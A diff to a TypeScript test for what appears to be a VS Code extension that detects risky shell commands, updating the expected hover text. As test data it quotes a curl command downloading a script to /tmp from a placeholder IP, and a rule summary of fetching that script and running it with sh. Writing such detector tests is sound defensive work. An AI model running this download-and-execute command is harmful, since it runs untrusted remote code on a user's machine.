@@ -61,7 +61,13 @@ export const run = (): Promise<void> =>
       assert.equal(document.getText(fetched?.location.range), "curl -fsSLo /tmp/x.sh http://203.0.113.7/x.sh");
       const hovers = await commands.executeCommand<Hover[]>("vscode.executeHoverProvider", document.uri, found.range.start);
       const text = hovers.flatMap(({ contents }) => contents.map((part) => (part instanceof MarkdownString ? part.value : ""))).join("\n");
-      for (const part of ["What the rule saw", "/tmp/x.sh", "severity", "**Why it matters**", "**What to do**"])
+      for (const part of [
+        "What the rule saw",
+        ":fetch http://203.0.113.7/x.sh | :run sh",
+        "severity",
+        "**Why it matters**",
+        "**What to do**",
+      ])
         assert.ok(text.includes(part), part);
     });
 
